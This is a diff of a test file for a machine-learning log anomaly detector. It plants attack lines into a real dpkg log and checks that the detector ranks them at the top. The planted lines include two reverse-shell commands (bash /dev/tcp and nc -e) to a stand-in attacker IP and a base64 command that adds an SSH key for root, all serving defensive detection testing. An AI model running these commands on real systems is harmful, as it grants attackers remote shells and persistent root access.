@@ -1,6 +1,8 @@
 """Anomaly detection: the planted outliers of a table and the planted lines of a log are the top
 anomalies, each explained by the features that carry it."""
 
+from pathlib import Path
+
 import pytest
 
 from apps.agents.ml import MLAgent
@@ -59,11 +61,14 @@ def test_planted_log_lines_are_the_top_anomalies(organization):
     for anomaly in top:
         assert anomaly["text"] == lines[anomaly["line"]]
         assert anomaly["template_count"] == 1
-        assert anomaly["explanation"][0]["feature"] in {"template_rarity", "program_rarity", "alarm_words"}
-    assert {t["template"] for t in result["top_templates"][:2]} == {
-        "nginx: <ip> GET <path> <num> <num>",
-        "sshd: Connection closed by <ip> port <num> [preauth]",
-    }
+        features = {e["feature"] for e in anomaly["explanation"]}
+        assert "template_rarity" in features and any(f.startswith("content: ") for f in features)
+    # Drain folds the five request paths into one template ("/" alone is no masked path); the
+    # 597 routine lines make two templates
+    assert [(t["template"], t["count"]) for t in result["top_templates"][:2]] == [
+        ("nginx: <ip> GET <*> <num> <num>", 428),
+        ("sshd: Connection closed by <ip> port <num> [preauth]", 169),
+    ]
 
 
 def test_too_little_data_fails_cleanly(organization):
@@ -85,3 +90,47 @@ def test_contamination_sets_how_many_are_flagged(organization):
     fixed = detect(organization, {"metrics.csv": ff.metrics_csv()}, contamination=0.01).data["anomalies"][0]
     assert fixed["flagged"] == 4  # 1 % of 400 rows
     assert 3 <= auto["flagged"] < 40  # only rows whose score stands out among the scores
+
+
+# A real dpkg log from the machine the tests were written on (tests/data/logs/dpkg.log, a verbatim
+# copy of /var/log/dpkg.log) with the attack lines of issue 15 planted at fixed positions.
+PLANTED = {
+    800: "2025-06-24 15:02:11 status installed bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    1700: "Jun 24 15:10:01 build-01 sshd[4242]: Failed password for invalid user admin from 198.51.100.23 "
+    "port 52344 ssh2",
+    2500: "2025-06-24 15:20:45 trigproc echo ZWNobyAnc3NoLXJzYSBBQUFBQjNOemFDMXljMkVBQUFBREFRQUJBQUFCZ1FDJyA+"
+    "PiAvcm9vdC8uc3NoL2F1dGhvcml6ZWRfa2V5cw== | base64 -d | sh",
+    3300: "2025-06-24 15:31:07 install mimikatz:amd64 <none> 2.2.0-1",
+    4100: "2025-06-24 15:40:19 startup packages configure; nc -e /bin/sh 203.0.113.9 4444",
+}
+EXPECTED_SIGNAL = {
+    800: "content: reverse shell",
+    1700: "content: authentication failure",
+    2500: "content: encoded command",
+    3300: "content: credential-dumping tool",
+    4100: "content: reverse shell",
+}
+
+
+def dpkg_log_with_planted_lines() -> str:
+    lines = (Path(__file__).resolve().parents[1] / "data" / "logs" / "dpkg.log").read_text().splitlines()
+    for at in sorted(PLANTED):  # ascending, so each planted line ends up at its own index
+        lines.insert(at, PLANTED[at])
+    return "\n".join(lines) + "\n"
+
+
+def test_planted_attack_lines_in_a_real_dpkg_log_rank_in_the_top_ten(organization, settings):
+    settings.AMAS_ML_MAX_ROWS = 50_000
+    run = detect(organization, {"dpkg.log": dpkg_log_with_planted_lines()}, top=10)
+
+    result = run.data["anomalies"][0]
+    assert result["lines_scored"] == 4896
+    assert result["templates"] < 50  # the routine lines fold into a few templates
+    ranked = {t["line"]: t for t in result["top"]}
+    assert set(PLANTED) <= set(ranked)
+    for line, signal in EXPECTED_SIGNAL.items():
+        assert ranked[line]["text"] == PLANTED[line]
+        assert ranked[line]["flagged"] is True
+        assert ranked[line]["explanation"][0]["feature"] == signal
+    assert result["flagged"] == len(PLANTED)  # nothing routine is flagged
+    assert "install <*> <none> <*>" in [t["template"] for t in result["top_templates"]]
